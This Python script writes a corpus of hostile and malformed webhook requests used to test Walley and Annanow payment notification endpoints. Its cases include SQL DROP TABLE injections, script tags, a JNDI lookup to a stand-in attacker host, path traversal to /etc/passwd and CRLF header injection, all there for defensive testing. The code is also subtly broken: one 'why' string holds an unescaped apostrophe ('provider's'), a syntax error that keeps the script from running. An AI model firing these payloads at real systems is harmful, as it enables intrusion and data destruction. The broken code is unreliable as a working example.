#!/usr/bin/env python3
"""Writes the bad-input corpus (adapters/src/test/resources/bad-input/) read by BadInputCorpusTest and
InboundNotificationsIT. Each case is one .http file: '# ' directives, an empty line, then the body bytes.
Directives: expect (status), provider, endpoint (valid | unknown | other-provider), walley-signature (on),
header (Name: value with {walley-basic} {now} {now-600} {now+600}), sign (walley: adds a valid Walley-Signature),
body-repeat (<count> <char>: the body is that character repeated), why.
Rerun after changing it: python3 adapters/src/test/corpus/generate_bad_input.py"""
import json, os, shutil

ROOT = os.path.join(os.path.dirname(__file__), '..', 'resources', 'bad-input')
cases = []

def case(group, name, expect, body=b'', provider=None, content_type='application/json', auth=True, headers=(),
         endpoint='valid', signature=False, sign=False, repeat=None, why=''):
    provider = provider or group
    lines = ['expect: %d' % expect, 'provider: %s' % provider, 'endpoint: %s' % endpoint]
    if signature:
        lines.append('walley-signature: on')
    if content_type is not None:
        lines.append('header: Content-Type: %s' % content_type)
    if auth and provider == 'walley':
        lines.append('header: Authorization: {walley-basic}')
    for h in headers:
        lines.append('header: %s' % h)
    if sign:
        lines.append('sign: walley')
    if repeat:
        lines.append('body-repeat: %d %s' % repeat)
    lines.append('why: %s' % why)
    if isinstance(body, str):
        body = body.encode('utf-8')
    cases.append((group, name, ('\n'.join('# ' + l for l in lines) + '\n\n').encode('utf-8') + body))

def w(type_, payload):
    return json.dumps({'Type': type_, 'Timestamp': '2024-01-30T11:02:42+01:00', 'Payload': payload})

def order(**over):
    p = {'OrderId': 'o-corpus', 'Reference': 'ref-corpus', 'Amount': 30, 'Currency': 'SEK', 'Status': 'Authorized',
         'AuthorizationId': 'a-corpus', 'CustomerToken': 't'}
    for k, v in over.items():
        if v is DROP:
            p.pop(k, None)
        else:
            p[k] = v
    return w('walley:order:created', p)

def attempt(type_='walley:authorization:retrying', **over):
    p = {'CustomerToken': 't', 'AuthorizationId': 'a-corpus-unknown', 'Reference': 'ref-unknown', 'ActionReference': 'x',
         'CreatedOn': '2024-01-30T11:02:40+01:00', 'CurrentAttempt': 1, 'MaxAttempt': 3, 'Reason': 'SERVICE_UNAVAILABLE'}
    for k, v in over.items():
        if v is DROP:
            p.pop(k, None)
        else:
            p[k] = v
    return w(type_, p)

DROP = object()

# ---------------- Walley: malformed JSON ----------------
for name, body in [('empty-body', ''), ('whitespace-only', '   \n\t '), ('open-brace', '{'), ('truncated-envelope', '{"Type": "walley:order:created", "Payload": {"OrderId": "o'),
                   ('truncated-after-colon', '{"Type":'), ('array-not-object', '[]'), ('string-not-object', '"walley"'), ('number-not-object', '123'),
                   ('null-not-object', 'null'), ('trailing-garbage', '{"Type": "x", "Payload": {}} garbage'), ('two-objects', '{}{}'),
                   ('single-quotes', "{'Type': 'walley:order:created'}"), ('unquoted-keys', '{Type: "walley:order:created"}'),
                   ('trailing-comma', '{"Type": "walley:order:created", "Payload": {},}'), ('js-comment', '{/* c */ "Type": "x"}'),
                   ('nan-literal', '{"Type": "walley:order:created", "Payload": {"Amount": NaN}}'), ('deep-nesting', '[' * 50000 + ']' * 50000), ('deep-object-nesting', '{"a":' * 20000 + '1' + '}' * 20000),
                   ('unterminated-string', '{"Type": "walley:order:created}'), ('control-char-in-string', '{"Type": "walley:\u0001order"}'.replace('\\u0001', '\x01')),
                   ('bad-escape', '{"Type": "walley\\qorder"}'), ('xml-body', '<Type>walley:order:created</Type>')]:
    case('walley', 'malformed-' + name, 400, body, why='not one JSON object')
case('walley', 'bom-prefixed-unknown-type', 200, '\ufeff{"Type": "x", "Payload": {}}', why='a UTF-8 BOM is ignored (RFC 8259 allows it); unknown type: no effect')
case('walley', 'invalid-utf8', 400, b'{"Type": "walley:order:created", "Payload": {"OrderId": "\xc3\x28"}}', why='not UTF-8')
case('walley', 'overlong-utf8', 400, b'{"Type": "walley:order:\xc0\xaf", "Payload": {}}', why='overlong UTF-8 encoding')

# ---------------- Walley: wrong types and missing fields ----------------
wrong = [('type-number', json.dumps({'Type': 5, 'Payload': {}})), ('type-missing', json.dumps({'Payload': {}})),
         ('type-blank', json.dumps({'Type': '  ', 'Payload': {}})), ('payload-missing', json.dumps({'Type': 'walley:order:created'})),
         ('payload-string', json.dumps({'Type': 'walley:order:created', 'Payload': 'x'})), ('payload-array', json.dumps({'Type': 'walley:order:created', 'Payload': []})),
         ('payload-null', json.dumps({'Type': 'walley:order:created', 'Payload': None})), ('timestamp-number', json.dumps({'Type': 'walley:order:created', 'Timestamp': 5, 'Payload': {}})),
         ('orderid-number', order(OrderId=45)), ('orderid-missing', order(OrderId=DROP)), ('orderid-blank', order(OrderId='')),
         ('amount-missing', order(Amount=DROP)), ('amount-text', order(Amount='thirty')), ('amount-bool', order(Amount=True)),
         ('amount-object', order(Amount={'value': 30})), ('currency-missing', order(Currency=DROP)), ('currency-number', order(Currency=752)),
         ('status-missing', order(Status=DROP)), ('status-number', order(Status=1)), ('reference-object', order(Reference={'x': 1})),
         ('authorizationid-array', order(AuthorizationId=['a'])), ('retrying-authorizationid-missing', attempt(AuthorizationId=DROP)),
         ('retrying-reason-missing', attempt(Reason=DROP)), ('retrying-reason-number', attempt(Reason=503)),
         ('retrying-attempt-text', attempt(CurrentAttempt='first')), ('retrying-attempt-negative', attempt(CurrentAttempt=-1)),
         ('retrying-attempt-fraction', attempt(CurrentAttempt=1.5)), ('retrying-attempt-huge', attempt(CurrentAttempt=10**30)),
         ('failed-maxattempt-bool', attempt('walley:authorization:failed', MaxAttempt=False, Reason='PAYMENT_METHOD_EXPIRED')),
         ('duplicate-keys-any-case', '{"Type": "walley:order:created", "type": "walley:order:created", "Payload": {}}'),
         ('duplicate-payload-keys', '{"Type": "walley:order:created", "Payload": {"OrderId": "a", "orderid": "b", "Amount": 1, "Currency": "SEK", "Status": "Authorized"}}')]
for name, body in wrong:
    case('walley', 'wrong-' + name, 400, body, why='a field is missing or of the wrong type')

# ---------------- Walley: amounts and currencies ----------------
for name, amount in [('negative', -30), ('zero', 0), ('negative-zero', '-0'), ('too-precise', '30.505'), ('comma-decimal', '30,50'),
                     ('empty-string', ''), ('nan-string', 'NaN'), ('infinity-string', 'Infinity'), ('thousandth', '0.001'),
                     ('huge-integer', '9' * 30), ('huge-exponent', '1e400'), ('beyond-long', '92233720368547758.08'), ('hex', '0x1E')]:
    body = order(Amount=amount) if not isinstance(amount, str) else order(Amount='__A__').replace('"__A__"', amount if amount and amount[0] in '-0123456789' and amount not in ('30,50',) else json.dumps(amount))
    case('walley', 'amount-' + name, 400, body, why='not a positive amount with at most two decimals')
for name, currency in [('unknown', 'XXX'), ('four-letters', 'SEKK'), ('empty', ''), ('symbol', '€'), ('two-letters', 'SE'),
                       ('gold', 'XAU'), ('crypto', 'BTC'), ('digits', '752'), ('sql', "SEK'--")]:
    case('walley', 'currency-' + name, 400, order(Currency=currency), why='not an ISO 4217 currency the hub supports')

# ---------------- Walley: unicode, injection, long values ----------------
case('walley', 'unicode-rtl-override-type', 200, w('walley:order:\u202ecreated', {}), why='unknown type: stored, no effect')
case('walley', 'unicode-zero-width-status', 200, order(Status='Authorized\u200b'), why='unknown status: stored, no effect')
case('walley', 'unicode-nul-in-orderid', 400, order(OrderId='o\u0000rder'), why='control character in a reference')
case('walley', 'unicode-newline-in-reference', 400, order(Reference='ref\nInjected: header'), why='control character in a reference')
case('walley', 'unicode-lone-surrogate-status', 200, order(Status='\ud800'), why='unknown status: stored, no effect')
case('walley', 'unicode-emoji-reason', 200, attempt(Reason='\U0001F4A5'), why='unknown reason: stored, no effect')
case('walley', 'unicode-fullwidth-status', 200, order(Status='Ａｕｔｈｏｒｉｚｅｄ'), why='unknown status: stored, no effect')
case('walley', 'unicode-combining-type', 200, w('walley:order:cre\u0301ated', {}), why='unknown type: stored, no effect')
case('walley', 'injection-sql-type', 200, w("walley:order:created'; DROP TABLE payment_transaction; --", {}), why='unknown type')
case('walley', 'injection-script-reason', 200, attempt(Reason='<script>alert(1)</script>'), why='unknown reason')
case('walley', 'injection-jndi-status', 200, order(Status='${jndi:ldap://attacker.example/x}'), why='unknown status')
case('walley', 'injection-path-orderid-unknown-status', 200, order(OrderId='../../etc/passwd', Status='Teleported'), why='unknown status')
case('walley', 'injection-sql-reference-unknown-status', 200, order(Reference="' OR '1'='1", Status='Sideways'), why='unknown status')
case('walley', 'injection-crlf-reason', 200, attempt(Reason='SERVICE_UNAVAILABLE\r\nX-Injected: 1'), why='unknown reason')
case('walley', 'injection-format-string-type', 200, w('%s%s%s%n', {}), why='unknown type')
case('walley', 'long-type', 400, w('walley:' + 'x' * 5000, {}), why='a type no provider sends')
case('walley', 'long-orderid', 400, order(OrderId='o' * 300), why='reference longer than 255')
case('walley', 'long-reference', 400, order(Reference='r' * 1000), why='reference longer than 255')
case('walley', 'unknown-type', 200, w('walley:order:teleported', {}), why='well-formed, unknown type: no effect')
case('walley', 'retrying-unknown-authorization', 200, attempt(), why='no such payment: stored, no effect')
case('walley', 'failed-unknown-reason', 200, attempt('walley:authorization:failed', Reason='SOLAR_FLARE'), why='unknown reason')
case('walley', 'failed-reason-of-retrying', 200, attempt('walley:authorization:failed', Reason='SERVICE_UNAVAILABLE'), why='reason not of this type')

# ---------------- Walley: authentication ----------------
import base64
def basic(user, password):
    return 'Basic ' + base64.b64encode(('%s:%s' % (user, password)).encode()).decode()
valid = order(OrderId='o-auth', Reference='ref-auth')
case('walley', 'auth-missing', 401, valid, auth=False, why='no Basic credentials')
for name, value in [('wrong-password', basic('{walley-user}', 'guess')), ('wrong-user', basic('admin', '{walley-password}')),
                    ('bearer', 'Bearer abc.def.ghi'), ('not-base64', 'Basic !!!not-base64!!!'), ('empty-basic', 'Basic '),
                    ('no-colon', 'Basic ' + base64.b64encode(b'walley').decode()), ('digest', 'Digest username="walley"'),
                    ('empty-header', ''), ('sql-in-credentials', basic("' OR 1=1 --", "' OR 1=1 --")),
                    ('huge-credentials', basic('u' * 1000, 'p' * 1000))]:
    case('walley', 'auth-' + name, 401, valid, auth=False, headers=['Authorization: ' + value], why='wrong credentials')

# ---------------- Walley: signature (channel with signature checking on) ----------------
signed = order(OrderId='o-signed', Reference='ref-signed')
for name, hdrs in [('missing-timestamp-and-signature', []), ('missing-signature', ['Walley-Timestamp: {now}']),
                   ('missing-timestamp', ['Walley-Signature: ' + '0' * 64]),
                   ('non-numeric-timestamp', ['Walley-Timestamp: yesterday', 'Walley-Signature: ' + '0' * 64]),
                   ('wrong-signature-hex', ['Walley-Timestamp: {now}', 'Walley-Signature: ' + 'ab' * 32]),
                   ('wrong-signature-base64', ['Walley-Timestamp: {now}', 'Walley-Signature: ' + base64.b64encode(b'x' * 32).decode()]),
                   ('signature-garbage', ['Walley-Timestamp: {now}', 'Walley-Signature: not a signature']),
                   ('signature-empty', ['Walley-Timestamp: {now}', 'Walley-Signature: ']),
                   ('huge-timestamp', ['Walley-Timestamp: 99999999999999999999', 'Walley-Signature: ' + '0' * 64]),
                   ('negative-timestamp', ['Walley-Timestamp: -5', 'Walley-Signature: ' + '0' * 64])]:
    case('walley', 'signature-' + name, 401, signed, signature=True, headers=hdrs, why='signature check fails')
case('walley', 'signature-replayed-timestamp', 401, signed, signature=True, headers=['Walley-Timestamp: {now-600}'], sign=True,
     why='valid signature, timestamp 10 minutes old')
case('walley', 'signature-future-timestamp', 401, signed, signature=True, headers=['Walley-Timestamp: {now+600}'], sign=True,
     why='valid signature, timestamp 10 minutes ahead')
case('walley', 'signature-valid-but-no-basic', 401, signed, signature=True, auth=False, headers=['Walley-Timestamp: {now}'], sign=True,
     why='signature alone does not replace Basic auth')
case('walley', 'signature-valid-malformed-body', 400, '{"Type": "walley:order:created", "Payload": {"OrderId": 5}}', signature=True,
     headers=['Walley-Timestamp: {now}'], sign=True, why='authentic but malformed')

# ---------------- Walley: content types, sizes, endpoints ----------------
for name, ct in [('text-plain', 'text/plain'), ('xml', 'application/xml'), ('form', 'application/x-www-form-urlencoded'),
                 ('multipart', 'multipart/form-data; boundary=x'), ('jsonx', 'application/jsonx'), ('bare-json', 'json'),
                 ('wildcard', '*/*'), ('missing', None)]:
    case('walley', 'content-type-' + name, 415, valid, content_type=ct, why='Walley sends JSON')
case('walley', 'size-2mib', 413, repeat=(2 * 1024 * 1024, 'a'), why='2 MiB body')
case('walley', 'size-256kib-plus-one', 413, repeat=(256 * 1024 + 1, 'b'), why='one byte over the limit')
case('walley', 'endpoint-unknown-key', 404, valid, endpoint='unknown', why='no such endpoint')
case('walley', 'endpoint-annanow-key', 404, valid, endpoint='other-provider', why='the Annanow key does not open Walley')
case('common', 'provider-unknown', 404, valid, provider='paypal', why='no such provider')
case('common', 'provider-adyen-not-yet', 404, valid, provider='adyen', why='an Adyen URL with another provider's endpoint key')
case('common', 'provider-uppercase-unknown-key', 404, valid, provider='WALLEY', endpoint='unknown', why='no such endpoint')

# ---------------- Annanow ----------------
def tx(**over):
    t = {'id': 501, 'status': 'confirmed', 'amount': 1000, 'referenceId': 'ref-annanow-corpus',
         'invoice': {'currency': 'CHF', 'paymentRequestId': 9}}
    for k, v in over.items():
        if v is DROP:
            t.pop(k, None)
        else:
            t[k] = v
    return json.dumps({'transaction': t})

FORM = 'application/x-www-form-urlencoded'
for name, body in [('empty-body', ''), ('open-brace', '{'), ('truncated', '{"transaction": {"id": 1, "status": "conf'), ('array', '[{"transaction": {}}]'),
                   ('string', '"transaction"'), ('trailing-garbage', '{"transaction": {}} x'), ('single-quotes', "{'transaction': {}}"),
                   ('deep-nesting', '[' * 50000 + ']' * 50000), ('nan', '{"transaction": {"id": NaN}}'), ('unterminated-string', '{"transaction": "x}')]:
    case('annanow', 'json-malformed-' + name, 400, body, why='not one JSON object')
case('annanow', 'json-invalid-utf8', 400, b'{"transaction": {"id": 1, "status": "\xff"}}', why='not UTF-8')
for name, body in [('empty', ''), ('only-ampersands', '&&&'), ('unclosed-bracket', 'transaction[id=1&transaction[status]=confirmed'),
                   ('reversed-brackets', 'transaction]id[=1'), ('bad-percent', 'transaction[id]=1&transaction[status]=%ZZ'),
                   ('short-percent', 'transaction[id]=1&transaction[status]=%4'), ('raw-non-ascii', 'transaction[status]=best\u00e4tigt'),
                   ('no-base-name', '[id]=1&[status]=confirmed'), ('value-and-group', 'transaction[id][x]=1&transaction[id]=2'),
                   ('too-deep', 'transaction' + '[a]' * 20 + '=1'), ('too-many-fields', '&'.join('a[]=%d' % i for i in range(3000))),
                   ('invalid-utf8-escape', 'transaction[id]=1&transaction[status]=%C3%28'), ('text-after-bracket', 'transaction[id]x=1'),
                   ('nested-bracket', 'transaction[[id]]=1'), ('json-sent-as-form', tx())]:
    case('annanow', 'form-malformed-' + name, 400, body, content_type=FORM, why='not PHP form fields')
for name, body in [('no-transaction', '{}'), ('transaction-string', '{"transaction": "x"}'), ('transaction-array', '{"transaction": [1]}'),
                   ('only-invoice', '{"invoice": {"currency": "CHF"}}'), ('id-missing', tx(id=DROP)), ('id-text', tx(id='abc')),
                   ('id-negative', tx(id=-1)), ('id-fraction', tx(id=1.5)), ('id-exponent', tx(id=1e5)), ('id-huge', tx(id=10**30)),
                   ('status-missing', tx(status=DROP)), ('status-object', tx(status={'x': 1})), ('amount-missing', tx(amount=DROP)),
                   ('amount-negative', tx(amount=-5)), ('amount-fraction', tx(amount=12.5)), ('amount-huge', tx(amount=10**25)),
                   ('amount-text', tx(amount='ten')), ('currency-missing', tx(invoice={'paymentRequestId': 9})),
                   ('currency-unknown', tx(invoice={'currency': 'XXX'})), ('currency-four-letters', tx(invoice={'currency': 'CHFF'})),
                   ('invoice-string', tx(invoice='CHF')), ('refunded-negative', tx(status='refunded', invoice={'currency': 'CHF', 'refundedAmount': -1})),
                   ('reference-nul', tx(referenceId='ref\u0000x')), ('reference-too-long', tx(referenceId='r' * 300)),
                   ('status-too-long', tx(status='s' * 500)), ('subscription-id-text', '{"subscription": {"id": "x", "status": "active"}}'),
                   ('subscription-status-missing', '{"subscription": {"id": 5}}'), ('subscription-array', '{"subscription": []}')]:
    case('annanow', 'json-wrong-' + name, 400, body, why='a field is missing or of the wrong type')
for name, body in [('form-no-transaction', 'foo=bar'), ('form-amount-negative', 'transaction[id]=1&transaction[status]=confirmed&transaction[amount]=-5&transaction[invoice][currency]=CHF'),
                   ('form-amount-decimal', 'transaction[id]=1&transaction[status]=confirmed&transaction[amount]=10.00&transaction[invoice][currency]=CHF'),
                   ('form-currency-unknown', 'transaction[id]=1&transaction[status]=confirmed&transaction[amount]=10&transaction[invoice][currency]=ZZZ'),
                   ('form-id-missing', 'transaction[status]=confirmed&transaction[amount]=10&transaction[invoice][currency]=CHF'),
                   ('form-reference-newline', 'transaction[id]=1&transaction[status]=confirmed&transaction[amount]=10&transaction[referenceId]=a%0Ab&transaction[invoice][currency]=CHF')]:
    case('annanow', 'form-wrong-' + name[5:], 400, body, content_type=FORM, why='a field is missing or of the wrong type')
for name, body in [('unknown-status', tx(status='teleported')), ('status-number', tx(status=7)),
                   ('sql-status', tx(status="confirmed'; DROP TABLE payment_transaction; --")),
                   ('script-status', tx(status='<script>alert(1)</script>')), ('unicode-status', tx(status='c\u200bonfirmed')),
                   ('subscription-unknown-status', '{"subscription": {"id": 5, "status": "hibernating"}}')]:
    case('annanow', 'no-effect-' + name, 200, body, why='well-formed, unknown status: stored, no effect')
case('annanow', 'no-effect-form-unknown-status', 200, 'transaction[id]=9&transaction[status]=%F0%9F%92%A5', content_type=FORM, why='unknown status')
for name, ct in [('text-plain', 'text/plain'), ('xml', 'application/xml'), ('multipart', 'multipart/form-data; boundary=x'),
                 ('missing', None), ('html', 'text/html')]:
    case('annanow', 'content-type-' + name, 415, tx(), content_type=ct, why='Annanow sends JSON or PHP form fields')
case('annanow', 'size-2mib-json', 413, repeat=(2 * 1024 * 1024, 'a'), why='2 MiB body')
case('annanow', 'size-2mib-form', 413, content_type=FORM, repeat=(2 * 1024 * 1024, '&'), why='2 MiB body')
case('annanow', 'endpoint-unknown-key', 404, tx(), endpoint='unknown', why='no such endpoint')
case('annanow', 'endpoint-walley-key', 404, tx(), endpoint='other-provider', why='the Walley key does not open Annanow')

shutil.rmtree(ROOT, ignore_errors=True)
for i, (group, name, content) in enumerate(cases, 1):
    folder = os.path.join(ROOT, group)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, '%03d-%s.http' % (i, name)), 'wb') as f:
        f.write(content)
print(len(cases), 'cases')
